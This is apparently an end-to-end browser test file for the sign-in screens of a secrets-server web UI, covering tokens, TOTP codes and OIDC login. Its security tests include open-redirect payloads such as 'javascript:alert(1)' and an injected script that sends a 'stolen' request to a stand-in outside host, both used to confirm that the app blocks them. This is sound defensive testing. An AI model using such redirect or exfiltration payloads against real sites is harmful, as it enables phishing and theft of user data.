import { expect, it } from "@jest/globals";
import { Secret, TOTP } from "otpauth";
import type { Page } from "playwright-core";
import type { JsonObject } from "../../src/std/json.ts";
import { type OidcProvider, startOidcProvider } from "../support/oidc-provider.ts";
import { hold } from "./support/hold.ts";
import type { Visitor } from "./support/page.ts";
import { signIn } from "./support/sign-in.ts";
import { describeUi } from "./support/suite.ts";
import type { World } from "./support/world.ts";

const how = (page: Page) => page.getByLabel("How", { exact: true });
const press = (page: Page, name = "Sign in") => page.getByRole("button", { name, exact: true }).click();
/** By way of the provider: to its page, or to what is said in its place. */
const goesThere = async (page: Page): Promise<void> => {
  await how(page).selectOption({ label: "Company login" });
  await press(page);
};
const isSignedIn = (page: Page): Promise<void> => page.getByRole("button", { name: "Sign out" }).waitFor();
const error = (page: Page, text: string | RegExp): Promise<void> => page.locator(".error", { hasText: text }).waitFor();
const textIn = (from: JsonObject | undefined, ...names: readonly string[]): string => {
  let value: unknown = from;
  for (const name of names) value = (value as JsonObject)[name];
  if (typeof value !== "string") throw new Error(`no ${names.join(".")}`);
  return value;
};

/** That entity needs a code from now on: the one of the moment. */
const totpOf = async (world: World, entity_id: string): Promise<() => string> => {
  const { data: method } = await world.prepare("POST", "identity/mfa/method/totp", {
    issuer: "Zeroth",
    method_name: "phone",
  });
  const { method_id } = method;
  const made = await world.prepare("POST", "identity/mfa/method/totp/admin-generate", { method_id, entity_id });
  await world.prepare("POST", `identity/mfa/login-enforcement/${entity_id}`, {
    mfa_method_ids: [method_id],
    identity_entity_ids: [entity_id],
  });
  const secret = new URL(textIn(made.data, "url")).searchParams.get("secret") ?? "";
  const totp = new TOTP({ secret: Secret.fromBase32(secret) });
  return () => totp.generate({ timestamp: world.clock.now() });
};

describeUi("signing in", (ui) => {
  it("1. signs in by password, token, wrapped token; the wrapped one works once", async () => {
    const person = await ui.world.person("alias", []);
    const { page } = await ui.signedIn(person);
    await page.getByText("alias", { exact: true }).waitFor();

    const token = await ui.signedIn(await ui.world.token([], { display_name: "robot" }));
    await token.page.getByText("token-robot", { exact: true }).waitFor();

    const { body } = await ui.world.prepare("POST", "auth/token/create", {}, { wrapTtl: "5m" });
    const wrapping = textIn(body, "wrap_info", "token");
    const open = async (): Promise<Page> => {
      const tab = await (await ui.visitor()).tab();
      await how(tab).selectOption({ label: "Wrapped token" });
      await tab.getByLabel("Wrapping token").fill(wrapping);
      await press(tab);
      return tab;
    };
    await isSignedIn(await open());

    await error(await open(), "This was opened already");
  });

  it("1. a token with few uses is warned of, and used when told so", async () => {
    const { token } = await ui.world.token([], { num_uses: 8 });
    const page = await (await ui.visitor()).tab();
    await how(page).selectOption({ label: "Token" });
    await page.getByLabel("Token", { exact: true }).fill(token);
    await press(page);
    await page.getByText("This token has few uses left (7)").waitFor();

    await press(page, "Use it anyway");
    await isSignedIn(page);
  });

  it("2. wrong password: one text, name kept, password focused", async () => {
    await ui.world.person("alias", []);
    const page = await (await ui.visitor()).tab();
    for (const name of ["alias", "nobody"]) {
      await page.getByLabel("Name", { exact: true }).fill(name);
      await page.getByLabel("Password", { exact: true }).fill("not the password");
      await press(page);
      await error(page, /^Name or password wrong\.$/);

      expect(await page.getByLabel("Name", { exact: true }).inputValue()).toBe(name);
      expect(await page.getByLabel("Password", { exact: true }).inputValue()).toBe("");
      await page.waitForFunction(() => document.activeElement?.getAttribute("name") === "password");
    }
  });

  it("3. shows only listed mounts; others can be typed", async () => {
    const person = await ui.world.person("alias", []);
    await ui.world.prepare("POST", "sys/auth/staff/people", { type: "userpass" });
    await ui.world.prepare("POST", "auth/staff/people/users/hidden", { password: person.password });
    const page = await (await ui.visitor()).tab();
    await how(page).waitFor();

    expect(await how(page).locator("option").allTextContents()).toEqual([
      "Name and password",
      "Token",
      "Wrapped token",
      "Another method",
    ]);
    await how(page).selectOption({ label: "Another method" });
    await page.getByLabel("Mounted at").fill("staff/people/");
    await page.getByLabel("Name", { exact: true }).fill("hidden");
    await page.getByLabel("Password", { exact: true }).fill(person.password);
    await press(page);
    await page.getByText("hidden", { exact: true }).waitFor();
  });

  it("a second factor is asked for, and a wrong code asked for again", async () => {
    const { world } = ui;
    const { name, password } = await world.person("careful", []);
    const login = await world.prepare("POST", `auth/userpass/login/${name}`, { password }, { token: null });
    const code = await totpOf(world, textIn(login.body, "auth", "entity_id"));
    const page = await (await ui.visitor()).tab();
    await page.getByLabel("Name", { exact: true }).fill(name);
    await page.getByLabel("Password", { exact: true }).fill(password);
    await press(page);
    await page.getByLabel("Code of phone").fill("000000");
    await press(page, "Go on");
    await error(page, "This code was not taken");

    await page.getByLabel("Code of phone").fill(code());
    await press(page, "Go on");
    await isSignedIn(page);
  });

  it("what was typed as a secret of one way is not in the fields of another", async () => {
    const page = await (await ui.visitor()).tab();
    await how(page).selectOption({ label: "Token" });
    await page.getByLabel("Token", { exact: true }).fill("typed-by-somebody");
    await how(page).selectOption({ label: "Another method" });
    await page.getByLabel("Method").selectOption({ label: "GitHub token" });
    expect(await page.getByLabel("Token", { exact: true }).inputValue()).toBe("");

    await page.getByLabel("Token", { exact: true }).fill("typed-by-somebody");
    await how(page).selectOption({ label: "Token" });
    expect(await page.getByLabel("Token", { exact: true }).inputValue()).toBe("");
  });

  it("a callback of nobody's sign-in, opened by somebody who is signed in, leads to the start", async () => {
    const { visitor } = await ui.signedIn(await ui.world.person("alias", []));
    const page = await visitor.tab("/ui/vault/auth/oidc/oidc/callback?state=st_of-somebody&code=a-code");
    await isSignedIn(page);

    await page.getByRole("heading", { level: 1, name: "Secrets" }).waitFor();
    expect(page.url()).toBe(`${ui.world.url}/ui/`);
  });

  it("37. `redirect_to` and callbacks lead to own routes only", async () => {
    const person = await ui.world.person("alias", []);
    const after = async (address: string): Promise<string> => {
      const visitor = await ui.visitor();
      const page = await visitor.tab(address);
      await signIn(page, person);
      await isSignedIn(page);
      await page.waitForFunction(() => !location.pathname.includes("sign-in"));
      const { pathname, search } = new URL(page.url());
      return pathname + search;
    };
    const asked = encodeURIComponent;
    expect(await after(`/ui/vault/auth?with=userpass&redirect_to=${asked("/vault/access")}`)).toBe("/ui/access");
    for (const elsewhere of [
      "https://elsewhere.example/ui/me",
      "//elsewhere.example",
      "javascript:alert(1)",
      "/v1/sys/health",
    ]) {
      expect(await after(`/ui/sign-in?redirect_to=${asked(elsewhere)}`)).toBe("/ui/");
    }

    const forged = await ui.visitor();
    const page = await forged.tab("/ui/vault/auth/oidc/oidc/callback?state=st_forged-by-somebody&code=forged-code");
    await error(page, "was begun elsewhere");
    expect(forged.gate.calls().filter((call) => call.includes("oidc"))).toEqual([]);
    expect(page.url()).toBe(`${ui.world.url}/ui/`);
  });

  it("39. an injected script cannot fetch elsewhere, make a worker, set `innerHTML`", async () => {
    const { page, visitor } = await ui.signedIn(await ui.world.person("alias", []));
    const outcomes = await page.evaluate(async () => {
      const outcome = async (work: () => unknown): Promise<string> => {
        try {
          await work();
          return "done";
        } catch {
          return "refused";
        }
      };
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      return {
        fetch: await outcome(() => fetch("https://elsewhere.example/?stolen")),
        worker: await outcome(() => new Worker("/ui/assets/other.js")),
        sharedWorker: await outcome(() => new SharedWorker("data:text/javascript,0")),
        html: await outcome(() => {
          document.body.innerHTML = "<b>injected</b>";
        }),
        policy: await outcome(() => trustedTypes.createPolicy("other", {})),
        samePolicy: await outcome(() => trustedTypes.createPolicy("zeroth", {})),
        module: await outcome(() => import("data:text/javascript,0" as string)),
      };
    });

    expect(new Set(Object.values(outcomes))).toEqual(new Set(["refused"]));
    await visitor.guard.expected(
      /violation|Content Security Policy|TrustedScriptURL|TrustedHTML|createPolicy|TrustedTypePolicy/,
    );
    expect(visitor.gate.passed.filter(({ url }) => url.href.includes("stolen"))).toEqual([]);
  });
});

describeUi("signing in at another site", (ui) => {
  /** `auth/sso/`, and a provider whose page the browser finds on the server's own origin, since no other is let through. */
  const withProvider = async (visit: (provider: OidcProvider) => Promise<void>): Promise<void> => {
    const { world } = ui;
    const provider = await startOidcProvider(world.clock);
    const authorization_endpoint = `${world.url}/provider/authorize`;
    const at = (path: string): string => `${provider.url}${path}`;
    provider.instead = (path) =>
      path.startsWith("/.well-known/openid-configuration")
        ? {
            status: 200,
            body: {
              issuer: provider.url,
              authorization_endpoint,
              token_endpoint: at("/token"),
              jwks_uri: at("/jwks"),
              userinfo_endpoint: at("/userinfo"),
              response_types_supported: ["code"],
              id_token_signing_alg_values_supported: ["RS256"],
              code_challenge_methods_supported: ["S256"],
            },
          }
        : undefined;
    try {
      await world.call("DELETE", "sys/auth/sso");
      await world.prepare("POST", "sys/auth/sso", {
        type: "oidc",
        description: "Company login",
        config: { listing_visibility: "unauth" },
      });
      await world.prepare("POST", "auth/sso/config", {
        oidc_discovery_url: provider.url,
        oidc_client_id: "g-client",
        oidc_client_secret: "g-client-secret",
        default_role: "web",
      });
      await world.prepare("POST", "auth/sso/role/web", {
        user_claim: "sub",
        allowed_redirect_uris: [`${world.url}/ui/vault/auth/sso/oidc/callback`],
      });
      await visit(provider);
    } finally {
      await provider.close();
    }
  };

  const throughTheGate = ({ gate }: Visitor, provider: OidcProvider): void => {
    gate.instead = async ({ url }) => {
      if (url.pathname !== "/provider/authorize") return undefined;
      const answer = await fetch(`${provider.url}/authorize${url.search}`, { redirect: "manual" });
      return { status: answer.status, headers: { location: answer.headers.get("location") ?? "" }, body: "" };
    };
  };

  /** Somebody who opened that page and went to the provider's. */
  const sentThere = async (provider: OidcProvider, address: string) => {
    const visitor = await ui.visitor();
    throughTheGate(visitor, provider);
    const page = await visitor.tab(address);
    await goesThere(page);
    return { page, visitor };
  };

  it("1. in the same tab, back to the page that was asked for, without the code in any history", async () => {
    await withProvider(async (provider) => {
      const { page, visitor } = await sentThere(provider, "/ui/me?from=somewhere");
      await isSignedIn(page);

      expect(page.url()).toBe(`${ui.world.url}/ui/me?from=somewhere`);
      const calls = visitor.gate.calls();
      expect(calls.filter((call) => /^GET auth\/sso\/oidc\/callback\?.*client_nonce=\w{48}/.test(call))).toHaveLength(
        1,
      );
      const session = await visitor.context.newCDPSession(page);
      const { entries } = await session.send("Page.getNavigationHistory");
      expect(entries.map(({ url }) => url).filter((url) => url.includes("code="))).toEqual([]);
    });
  });

  it("at a provider that posts its answer: the tab goes on from there, without a code in any address", async () => {
    await withProvider(async (provider) => {
      await ui.world.prepare("POST", "auth/sso/config", {
        oidc_discovery_url: provider.url,
        oidc_client_id: "g-client",
        oidc_client_secret: "g-client-secret",
        oidc_response_mode: "form_post",
        default_role: "web",
      });
      const visitor = await ui.visitor();
      visitor.gate.instead = async ({ url }) => {
        if (url.pathname !== "/provider/authorize") return undefined;
        const answer = await fetch(`${provider.url}/authorize${url.search}`, { redirect: "manual" });
        const back = new URL(answer.headers.get("location") ?? "");
        const fields = [...back.searchParams].map(([name, value]) => `<input name="${name}" value="${value}">`);
        const form = `<form method="post" action="${back.origin}${back.pathname}">${fields.join("")}</form>`;
        return {
          status: 200,
          headers: { "content-type": "text/html" },
          body: `${form}<script>document.forms[0].submit()</script>`,
        };
      };
      const page = await visitor.tab("/ui/me");
      await goesThere(page);
      await isSignedIn(page);

      expect(page.url()).toBe(`${ui.world.url}/ui/me`);
      expect(visitor.gate.calls().filter((call) => /[?&]code=(?!no_code)/.test(call))).toEqual([]);
    });
  });

  /** Types the code that this tab shows on the server's page, which opens in a tab of its own. */
  const confirmsThere = async (page: Page): Promise<void> => {
    const code = (await page.locator(".sign-in-code").textContent()) ?? "";
    const opened = page.context().waitForEvent("page");
    await page.getByRole("link", { name: /^Go on at / }).click();
    const there = await opened;
    await there.getByRole("textbox").fill(code);
    await there.getByRole("button").click();
    await there.getByRole("heading", { name: "Logged in" }).waitFor();
  };

  const endsAtServer = (places: readonly string[] = ["v1"]) =>
    ui.world.prepare("POST", "auth/sso/role/web", {
      user_claim: "sub",
      callback_mode: "direct",
      poll_interval: 1,
      allowed_redirect_uris: places.map((place) => `${ui.world.url}/${place}/auth/sso/oidc/callback`),
    });

  it.each([
    ["its address alone", ["v1"]],
    ["the page's address too", ["ui/vault", "v1"]],
  ])(
    "by a role that ends at the server and allows %s: the code is shown, typed there, and this tab goes on",
    async (_, places) => {
      await withProvider(async (provider) => {
        await endsAtServer(places);
        const { page } = await sentThere(provider, "/ui/me");
        await confirmsThere(page);

        await isSignedIn(page);
        await page.getByRole("heading", { level: 1, name: "My access" }).waitFor();
      });
    },
  );

  it("by a role that ends at the page and allows the server's address alone: it says so before anybody goes there", async () => {
    await withProvider(async () => {
      await ui.world.prepare("POST", "auth/sso/role/web", {
        user_claim: "sub",
        allowed_redirect_uris: [`${ui.world.url}/v1/auth/sso/oidc/callback`],
      });
      const page = await (await ui.visitor()).tab("/ui/me");
      await goesThere(page);
      await error(page, "This role does not sign in here.");
    });
  });

  /** Whoever signs in at the provider needs one: the code of the moment. */
  const secondFactor = async (): Promise<() => string> => {
    const { world } = ui;
    const mounts = await world.prepare("GET", "sys/auth");
    const entity_id = textIn((await world.prepare("POST", "identity/entity", {})).data, "id");
    await world.prepare("POST", "identity/entity-alias", {
      name: "g-alice",
      canonical_id: entity_id,
      mount_accessor: textIn(mounts.data, "sso/", "accessor"),
    });
    return totpOf(world, entity_id);
  };

  const proves = async (page: Page, code: () => string): Promise<void> => {
    await page.getByLabel("Code of phone").fill(code());
    await press(page, "Go on");
    await isSignedIn(page);
    await page.getByRole("heading", { level: 1, name: "My access" }).waitFor();
  };

  it("by somebody who needs a second factor: it is asked for on the way back, which then goes on", async () => {
    await withProvider(async (provider) => {
      const code = await secondFactor();
      const { page } = await sentThere(provider, "/ui/me?from=somewhere");

      await proves(page, code);
      expect(page.url()).toBe(`${ui.world.url}/ui/me?from=somewhere`);
    });
  });

  it("by somebody who needs a second factor, and a role that ends at the server: it is asked for where it was waited", async () => {
    await withProvider(async (provider) => {
      await endsAtServer();
      const code = await secondFactor();
      const { page } = await sentThere(provider, "/ui/me");
      await confirmsThere(page);

      await proves(page, code);
    });
  });

  it("of another person, in another tab: the first tab is cleared of whoever was there", async () => {
    await withProvider(async (provider) => {
      const visitor = await ui.visitor();
      throughTheGate(visitor, provider);
      const way = hold(visitor.gate, ({ url }) => url.pathname === "/provider/authorize");
      const second = await visitor.tab("/ui/me");
      await how(second).selectOption({ label: "Company login" });
      // The way there is held: a click that waits for it would never end.
      await second.getByRole("button", { name: "Sign in", exact: true }).click({ noWaitAfter: true });
      const person = await ui.world.person("alias", []);
      const page = await visitor.tab("/ui/me");
      await signIn(page, person);
      await page.locator(".shell-who", { hasText: "alias" }).waitFor();
      await page.locator(".shell-main").evaluate((main) => main.setAttribute("data-of", "alias"));

      way.release();
      await isSignedIn(second);
      await page.locator(".shell-who", { hasNotText: "alias" }).waitFor();
      await isSignedIn(page);

      expect(await page.locator("[data-of]").count()).toBe(0);
      expect(await page.locator("body").textContent()).not.toContain("alias");
    });
  });

  it("1. over a page with unsaved work: in a tab of its own, and the first goes on with that work", async () => {
    await withProvider(async (provider) => {
      const { page, visitor } = await sentThere(provider, "/ui/share");
      const text = page.getByLabel("Text", { exact: true });
      await text.fill("half a sentence");
      await page.getByRole("button", { name: "Lock" }).click();
      const dialog = page.getByRole("dialog", { name: "Locked" });
      await dialog.waitFor();
      expect(await text.inputValue()).toBe("");
      await goesThere(page);
      const opened = visitor.context.waitForEvent("page");
      await page.getByRole("link", { name: /^Go on at / }).click();

      await isSignedIn(await opened);
      await dialog.waitFor({ state: "detached" });
      await isSignedIn(page);
      expect(await text.inputValue()).toBe("half a sentence");
      expect(page.url()).toBe(`${ui.world.url}/ui/share`);
      await text.press("End");
      await page.keyboard.type(", and the rest");
      await page.getByRole("button", { name: "Make link", exact: true }).click();
      await page.getByText("To somebody").waitFor();
      const given = visitor.gate.passed.filter(({ url }) => url.pathname.endsWith("/sys/wrapping/wrap"));
      expect(given.map(({ body }) => body)).toEqual([JSON.stringify({ text: "half a sentence, and the rest" })]);
    });
  });
});
